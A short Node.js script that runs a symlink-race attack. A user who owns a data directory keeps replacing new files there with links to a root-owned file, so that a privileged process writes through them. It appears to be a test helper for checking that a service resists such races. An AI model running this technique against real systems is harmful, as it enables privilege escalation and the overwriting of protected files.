/**
 * The owner of a data directory attacks root: each new file there is replaced by a link to a file
 * of root, as fast as possible, for half a minute at most. Arguments: the data directory, the file
 * of root, and the names.
 */

import { lstatSync, readdirSync, renameSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';

const [dataDir = '', target = '', names = ''] = process.argv.slice(2);
const isWanted = new RegExp(names);
const deadline = performance.now() + 30_000;
const nextLink = join(dataDir, 'next-link');
symlinkSync(target, nextLink);
process.stdout.write('ready\n');

while (performance.now() < deadline) {
  for (const name of readdirSync(dataDir)) {
    if (!isWanted.test(name)) continue;
    const path = join(dataDir, name);
    try {
      if (lstatSync(path).isSymbolicLink()) continue;
      renameSync(nextLink, path);
      symlinkSync(target, nextLink);
    } catch {
      // The other side was faster and removed it.
    }
  }
}
